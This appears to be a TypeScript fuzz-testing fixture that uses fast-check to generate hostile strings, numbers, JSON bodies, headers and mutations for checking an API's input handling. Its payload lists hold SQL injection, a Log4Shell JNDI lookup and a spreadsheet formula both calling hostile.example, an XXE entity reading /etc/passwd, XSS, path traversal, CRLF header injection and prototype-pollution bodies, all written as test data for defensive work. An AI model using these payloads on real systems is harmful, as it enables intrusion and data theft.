import fc from 'fast-check';

/** What people send who wish no good, and programs that are broken. */

/** Cursors as lists give them, of other lists and of places that there are none. */
const cursors = [
  ...[{ pk: 'x', sk: 'y' }, { pk: { S: 'x' }, sk: 1 }, [], { list: 'x', after: '~~' }, { list: '', after: '' }],
  ...[
    { schemeId: 'fuzz-claims-back', sort: '~~', budgetId: 'x' },
    { schemeId: 'fuzz-claims-back', sort: '', budgetId: '' },
  ],
  ...[
    { application: 'x', after: '\u0000' },
    { __proto__: null, pk: 'DESTRUCTION#x', sk: 'META' },
  ],
]
  .map((key) => Buffer.from(JSON.stringify(key)).toString('base64url'))
  .flatMap((text) => [text, `0.${text}`, `9.${text}`]);

export const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u001b[31m',
  '\r\nSet-Cookie: hostile=1\r\n\r\n<html>',
  'Jan\u202Enesnaj',
  '\uD800',
  '\uDFFF\uD800',
  '\uFFFD\uFFFF',
  '\uFEFF',
  '\u200B',
  'e\u0301'.repeat(300),
  '𝒳'.repeat(2_000),
  'x'.repeat(3_000),
  'x'.repeat(70_000),
  "'; DROP TABLE applications; --",
  '" OR ""="',
  '=HYPERLINK("http://hostile.example";"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '{{7*7}}\u0024{7*7}#{7*7}',
  '\u0024{jndi:ldap://hostile.example/a}',
  '<script>alert(1)</script>',
  ']]><!--',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '%zz',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e400',
  '0x10',
  '１２３４５６７８',
  '٠١٢٣٤٥٦٧',
  '#',
  'a#b',
  '0000-00-00',
  '2026-02-30',
  '9999-12-31',
  '+275760-09-13',
  '2026-09-01T00:00:00.000Z',
  '2026-13',
  'P999999999Y',
  '01KFA7QY5BV3M1Z8C2D4E6F7G8',
  '7ZZZZZZZZZZZZZZZZZZZZZZZZZ',
  '01kfa7qy5bv3m1z8c2d4e6f7g8',
  '01KFA7QY5BV3M1Z8C2D4E6F7G8-0',
  '01KFA7QY5BV3M1Z8C2D4E6F7G8-99',
  ...cursors,
];

const hostileNumbers: readonly number[] = [
  ...[0, -1, 1, 0.1, 0.5, -0.01, 1e15, 99_999_999_999, 2 ** 31, 2 ** 53 - 1, 2 ** 53, -(2 ** 53), 1e21, 1e308, 5e-324],
];

const deep = (depth: number): unknown =>
  depth === 0 ? 'x' : depth % 2 === 0 ? [deep(depth - 1)] : { a: deep(depth - 1) };

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileTexts) },
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
);

/** A value that stands where another one should. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: hostileText },
  { weight: 3, arbitrary: fc.constantFrom(...hostileNumbers) },
  fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [null], [{}], { length: 5 }, { toString: 'x' }),
  fc.constantFrom<unknown>(Array(2_000).fill(0), Array(200).fill({}), deep(20), deep(200)),
  fc.jsonValue({ maxDepth: 3 }),
);

/** Bodies that are no JSON, or say more than JSON can keep; some are bytes, in base64. */
export const hostileBodies: readonly { readonly text: string; readonly bytes?: true }[] = [
  ...['', ' ', '\u0000', '{', '}', 'null', '[]', '"x"', '5', 'true', '{}', '{"a":1,}', "{'a':1}", '{"a":1}{"b":2}'],
  '{"a":1,"a":2}',
  '{"__proto__":{"roles":["admin"]}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"a":1e400}',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  '\uFEFF{}',
  '[['.repeat(60_000),
  '['.repeat(120_000) + ']'.repeat(120_000),
  `${'{"a":'.repeat(40_000)}1${'}'.repeat(40_000)}`,
  `{"a":"${'x'.repeat(262_144)}"}`,
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
  'a=1&b=2',
]
  .map((text): { text: string; bytes?: true } => ({ text }))
  .concat(
    [
      [0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00],
      [0x7b, 0x22, 0xc3, 0x28, 0x22, 0x3a, 0x31, 0x7d],
      [0x1f, 0x8b, 0x08, 0x00],
      [0xef, 0xbb, 0xbf, 0x7b, 0x7d],
    ].map((bytes) => ({ text: Buffer.from(bytes).toString('base64'), bytes: true as const })),
  );

/** What a client can put into a header: the gateway takes no line ends in one. */
export const hostileHeader: fc.Arbitrary<string> = hostileText.map((text) =>
  Buffer.from(text, 'utf8')
    .toString('latin1')
    .replace(/[^\t\x20-\x7e\x80-\xff]/g, '')
    .slice(0, 8_000),
);

/** Where something is put in, and what: `at` counts the places of a value from its root. */
export interface Mutation {
  readonly kind: 'replace' | 'drop' | 'add' | 'repeat';
  readonly at: number;
  readonly value: unknown;
}

export const mutation: fc.Arbitrary<Mutation> = fc.record({
  kind: fc.constantFrom('replace', 'replace', 'replace', 'drop', 'add', 'repeat'),
  at: fc.nat({ max: 400 }),
  value: hostileValue,
});

type Place = readonly (string | number)[];

function placesOf(value: unknown, path: Place = []): Place[] {
  if (typeof value !== 'object' || value === null) return [path];
  return [path, ...Object.entries(value).flatMap(([key, inner]) => placesOf(inner, [...path, key]))];
}

/** The value with one thing in it changed; itself stays as it is. */
export function mutated(value: unknown, { kind, at, value: put }: Mutation): unknown {
  const places = placesOf(value);
  const place = places[at % places.length] ?? [];
  const change = (here: unknown): unknown => {
    if (kind === 'add') return isPlain(here) ? { ...here, hostile: put } : put;
    if (kind === 'repeat' && Array.isArray(here)) return Array.from({ length: 40 }, () => here).flat();
    return put;
  };
  const walk = (here: unknown, depth: number): unknown => {
    const key = place[depth];
    if (key === undefined) return change(here);
    const last = depth === place.length - 1;
    if (Array.isArray(here)) {
      if (kind === 'drop' && last) return here.filter((_, index) => index !== Number(key));
      return here.map((item, index) => (index === Number(key) ? walk(item, depth + 1) : item));
    }
    const entries = Object.entries(here as object);
    if (kind === 'drop' && last) return Object.fromEntries(entries.filter(([name]) => name !== key));
    return Object.fromEntries(entries.map(([name, item]) => [name, name === key ? walk(item, depth + 1) : item]));
  };
  return walk(value, 0);
}

const isPlain = (value: unknown): value is object =>
  typeof value === 'object' && value !== null && !Array.isArray(value);
